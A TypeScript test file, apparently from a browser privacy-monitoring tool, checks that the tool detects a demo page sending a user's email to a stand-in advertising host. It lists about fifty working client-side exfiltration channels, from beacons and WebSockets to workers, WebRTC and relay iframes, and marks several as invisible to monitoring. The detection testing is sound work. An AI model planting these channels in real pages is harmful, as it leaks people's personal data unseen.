import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { PARTIES } from '../../demo/hosts'
import type { Received } from '../../demo/server'
import { CANNOT_BE_SEEN, type CannotBeSeen } from '../../lib/lists/cannot-be-seen'
import { type Tab, until } from './browser-under-test'
import { flowsOf, HOME, inEachBrowser, policyIsRead, type World } from './world'

/** One test a way for data to leave a page; what no browser shows must stand in `lib/lists/cannot-be-seen.ts`. */

const EMAIL = 'ottoline.fairweather@mail.example'
const HOST = PARTIES.advertising

/** Page script that sends `EMAIL` to `URL`, by the name of the way. */
const WAYS: Readonly<Record<string, string>> = {
  'fetch, text': `fetch(URL, { method: 'POST', body: EMAIL })`,
  'fetch, URLSearchParams': `fetch(URL, { method: 'POST', body: new URLSearchParams({ em: EMAIL }) })`,
  'fetch, FormData': `fetch(URL, { method: 'POST', body: form({ em: EMAIL }) })`,
  'fetch, the content of a file': `fetch(URL, { method: 'POST', body: form({ file: new File([JSON.stringify({ em: EMAIL })], 'a.json') }) })`,
  'fetch, Blob': `fetch(URL, { method: 'POST', body: new Blob([JSON.stringify({ em: EMAIL })]) })`,
  'fetch, ArrayBuffer': `fetch(URL, { method: 'POST', body: new TextEncoder().encode(EMAIL).buffer })`,
  'fetch, typed array': `fetch(URL, { method: 'POST', body: new TextEncoder().encode(EMAIL) })`,
  'fetch, Request object': `fetch(new Request(URL, { method: 'POST', body: EMAIL }))`,
  'fetch, Request object with a Blob': `fetch(new Request(URL, { method: 'POST', body: new Blob([EMAIL]) }))`,
  'fetch, keepalive': `fetch(URL, { method: 'POST', body: EMAIL, keepalive: true })`,
  'fetch, header': `fetch(URL, { headers: { 'x-user': EMAIL } })`,
  'fetch, query': `fetch(URL + '?em=' + encodeURIComponent(EMAIL))`,
  'XHR, text': `xhr(EMAIL)`,
  'XHR, Blob': `xhr(new Blob([JSON.stringify({ em: EMAIL })]))`,
  'XHR, FormData': `xhr(form({ em: EMAIL }))`,
  'beacon, text': `navigator.sendBeacon(URL, EMAIL)`,
  'beacon, Blob': `navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })], { type: 'text/plain' }))`,
  'beacon, FormData': `navigator.sendBeacon(URL, form({ em: EMAIL }))`,
  'image address': `new Image().src = URL + '?em=' + EMAIL`,
  'script address': `add('script', { src: URL + '?em=' + EMAIL })`,
  'stylesheet address': `add('link', { rel: 'stylesheet', href: URL + '?em=' + EMAIL })`,
  prefetch: `add('link', { rel: 'prefetch', href: URL + '?em=' + EMAIL })`,
  EventSource: `new EventSource(URL + '?em=' + EMAIL)`,
  'dynamic import': `void import(URL + '?em=' + EMAIL).catch(() => {})`,
  'form in a frame, urlencoded': `frameForm('application/x-www-form-urlencoded', 'post')`,
  'form in a frame, multipart': `frameForm('multipart/form-data', 'post')`,
  'form in a frame, text': `frameForm('text/plain', 'post')`,
  'form in a frame, GET': `frameForm('', 'get')`,
  'WebSocket, text': `socket(EMAIL)`,
  'WebSocket, bytes': `socket(new TextEncoder().encode(EMAIL))`,
  'WebSocket, Blob': `socket(new Blob([EMAIL]))`,
  'worker, fetch': `new Worker(window.URL.createObjectURL(new Blob(["fetch('" + URL + "', { method: 'POST', body: '" + EMAIL + "' })"])))`,
  'about:blank frame, at once': `add('iframe', {}).contentWindow.fetch(URL, { method: 'POST', body: EMAIL })`,
  'about:blank frame, Blob': `add('iframe', {}).contentWindow.navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })]))`,
  'srcdoc frame': `add('iframe', { srcdoc: inline })`,
  'data: frame': `add('iframe', { src: 'data:text/html,' + encodeURIComponent(inline) })`,
  'sandboxed frame': `add('iframe', { sandbox: 'allow-scripts', srcdoc: inline })`,
  'data channel': `dataChannel()`,
  'XHR, at once': `xhr(EMAIL, false)`,
  preload: `add('link', { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: URL + '?em=' + EMAIL })`,
  'poster address': `add('video', { poster: URL + '?em=' + EMAIL })`,
  'background image': `add('i', {}).style.background = 'url("' + URL + '?em=' + EMAIL + '")'`,
  'imported style': `add('style', { textContent: '@import url("' + URL + '?em=' + EMAIL + '")' })`,
  'WebSocket address': `new WebSocket(URL.replace('https', 'wss') + '?em=' + EMAIL)`,
  'blob: frame': `add('iframe', { src: window.URL.createObjectURL(new Blob([inline], { type: 'text/html' })) })`,
  'shared worker, fetch': `new SharedWorker(window.URL.createObjectURL(new Blob([post])))`,
  'a message to a frame of another origin, which sends it on': `add('iframe', {
    sandbox: 'allow-scripts',
    srcdoc: '<script>onmessage = event => fetch("' + URL + '", { method: "POST", mode: "no-cors", body: event.data })</' + 'script>',
    onload() { this.contentWindow.postMessage(EMAIL, '*') },
  })`,
}

/** Ways that only Chromium has, or has not switched off. */
const OF_CHROMIUM: Readonly<Record<string, string>> = {
  fetchLater: `fetchLater(URL, { method: 'POST', body: EMAIL, activateAfter: 0 })`,
  'a ping': `add('a', { href: '#', ping: URL + '?em=' + EMAIL }).click()`,
}

/** What reaches the server although nobody shows it to us. */
const UNSEEN: Readonly<Partial<Record<CannotBeSeen, string>>> = {
  'worker-socket': `new Worker(window.URL.createObjectURL(new Blob(["const one = new WebSocket('" + URL.replace('https', 'wss') + "'); one.onopen = () => one.send('" + EMAIL + "')"])))`,
  'worker-blob': `new Worker(window.URL.createObjectURL(new Blob(["fetch('" + URL + "', { method: 'POST', body: new Blob(['" + EMAIL + "']) })"])))`,
  stream: `void fetch(URL, { method: 'POST', duplex: 'half', body: new Blob([EMAIL]).stream() }).catch(() => {})`,
  'empty-frame-blob': `add('iframe', { src: '/style.css' }).contentWindow.navigator.sendBeacon(URL, new Blob([EMAIL]))`,
}

const tools = (path: string): string => `
  const EMAIL = '${EMAIL}', URL = 'https://${HOST}${path}'
  const form = values => { const data = new FormData(); for (const [name, value] of Object.entries(values)) data.append(name, value); return data }
  const add = (tag, attributes) => { const element = Object.assign(document.createElement(tag), attributes); document.body.append(element); return element }
  const xhr = (body, later = true) => { const request = new XMLHttpRequest(); request.open('POST', URL, later); request.send(body) }
  const post = "fetch('" + URL + "', { method: 'POST', body: '" + EMAIL + "' })"
  const inline = '<script>fetch("' + URL + '", { method: "POST", mode: "no-cors", body: "' + EMAIL + '" })</' + 'script>'
  const socket = data => { const one = new WebSocket(URL.replace('https', 'wss')); one.onopen = () => one.send(data) }
  const frameForm = (enctype, method) => {
    add('iframe', { name: 'target' + URL })
    const sent = add('form', { action: URL, method, enctype, target: 'target' + URL })
    sent.innerHTML = '<input name="em" value="' + EMAIL + '">'
    sent.requestSubmit()
  }
  const dataChannel = async () => {
    const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()]
    a.onicecandidate = event => event.candidate && b.addIceCandidate(event.candidate)
    b.onicecandidate = event => event.candidate && a.addIceCandidate(event.candidate)
    const channel = a.createDataChannel('notes')
    channel.onopen = () => channel.send(EMAIL)
    await a.setLocalDescription(); await b.setRemoteDescription(a.localDescription)
    await b.setLocalDescription(); await a.setRemoteDescription(b.localDescription)
  }`

async function ready(world: World): Promise<Tab> {
  const tab = await world.browser.open(`${HOME}/sign-up`)
  await policyIsRead(world)
  await tab.type('[name=email]', EMAIL)
  return tab
}

const emailsSent = async (world: World, since: number) =>
  (await flowsOf(world, HOME, since)).filter(({ items }) => items.some(({ dataType }) => dataType === 'email'))

/** Each way has an address of its own, so that all can be gone at once. */
const ALL = { ...WAYS, ...OF_CHROMIUM, ...UNSEEN }
const at = (way: string): string => `/way-${Object.keys(ALL).indexOf(way)}`
const wayAt = (path: string): string => Object.keys(ALL)[Number(/\d+/.exec(path)?.[0])] ?? path

const holdsEmail = ({ path, body, headers }: Received): boolean =>
  [path, body, ...Object.values(headers)].some(text => text.includes(EMAIL) || text.includes(EMAIL.replace('@', '%40')))

const waysOf = (browser: 'chromium' | 'firefox') => (browser === 'chromium' ? ALL : { ...WAYS, ...UNSEEN })

inEachBrowser({}, world => {
  describe('while the page stands', () => {
    let tab: Tab | undefined
    beforeAll(async () => {
      tab = await ready(world())
      for (const [name, way] of Object.entries(waysOf(world().browser.name)))
        await tab.run(`(() => { ${tools(at(name))}; void (${way}) })()`)
    })

    afterAll(() => tab?.close())

    it.each(Object.keys({ ...WAYS, ...OF_CHROMIUM }))('seen once: %s', async name => {
      if (!(name in waysOf(world().browser.name))) return expect(OF_CHROMIUM).toHaveProperty([name])
      const isThis = ({ url }: { url: string }) =>
        name === 'data channel' ? url.startsWith('webrtc:') : new URL(url).pathname === at(name)
      const flows = await until(
        async () => (await emailsSent(world(), 0)).filter(isThis),
        found => found.length > 0,
      )
      expect(flows).toHaveLength(1)
      expect(flows[0]?.page).toBe(`${HOME}/sign-up`)
      expect(JSON.stringify(flows)).not.toContain(EMAIL)
    })

    it('nothing served with the person’s data is missing, but for what is listed as unseen', async () => {
      const { demo, browser } = world()
      const hidden = CANNOT_BE_SEEN.filter(({ id, [browser.name]: isHidden }) => isHidden && id in UNSEEN).map(
        ({ id }) => id as string,
      )
      const served = () => new Set(demo.received.filter(holdsEmail).map(({ path }) => wayAt(path)))
      await until(
        async () => hidden.filter(id => !served().has(id)),
        missing => missing.length === 0,
      )
      const missing = await until(
        async () => {
          const recorded = new Set((await emailsSent(world(), 0)).map(({ url }) => wayAt(new URL(url).pathname)))
          return [...served()].filter(way => !recorded.has(way)).toSorted()
        },
        found => found.length === hidden.length,
      )
      expect(missing).toEqual(hidden.toSorted())
    })
  })

  it.each([
    ['beacon', "addEventListener('pagehide', () => navigator.sendBeacon(URL, EMAIL))"],
    [
      'fetch keepalive',
      "addEventListener('pagehide', () => fetch(URL, { method: 'POST', body: EMAIL, keepalive: true }))",
    ],
  ])('seen as the page is left, and put down to it: %s', async (_, way) => {
    const tab = await ready(world())
    const start = Date.now()
    await tab.run(`(() => { ${tools('/leaving')}; ${way} })()`)
    await tab.goto(`${HOME}/`)
    const flows = await until(
      () => emailsSent(world(), start),
      found => found.length > 0,
    )
    expect(flows[0]?.page).toBe(`${HOME}/sign-up`)
  })

  it.each([
    ['localStorage.setItem', "localStorage.setItem('who', EMAIL)", 'storage.local.who'],
    [
      'sessionStorage.setItem, in JSON',
      "sessionStorage.setItem('form', JSON.stringify({ em: EMAIL }))",
      'storage.session.form',
    ],
  ])('kept in the browser, and sent to nobody: %s', async (_, way, where) => {
    const tab = await ready(world())
    const start = Date.now()
    await tab.run(`(() => { ${tools('/kept')}; ${way} })()`)
    const flows = await until(
      async () => (await emailsSent(world(), start)).filter(({ kind }) => kind === 'storage'),
      found => found.length > 0,
    )
    expect(flows).toHaveLength(1)
    expect(flows[0]?.items[0]?.where.startsWith(where), flows[0]?.items[0]?.where).toBe(true)
    expect(flows[0]?.recipient.relation).toBe('first-party')
    expect(JSON.stringify(flows)).not.toContain(EMAIL)
  })

  it('a stream is not read, and where it is a body that is said', async () => {
    const { browser } = world()
    const tab = await ready(world())
    const start = Date.now()
    await tab.run(`(() => { ${tools('/leaving')}
      void fetch(URL + '?em=' + EMAIL, { method: 'POST', duplex: 'half', body: new Blob([EMAIL]).stream() }).catch(() => {})
    })()`)
    const flows = await until(
      () => emailsSent(world(), start),
      found => found.length > 0,
    )
    // Firefox does not send streams: it sends the words "[object ReadableStream]".
    expect(flows.some(({ unseen }) => unseen.length > 0)).toBe(browser.name === 'chromium')
  })
})
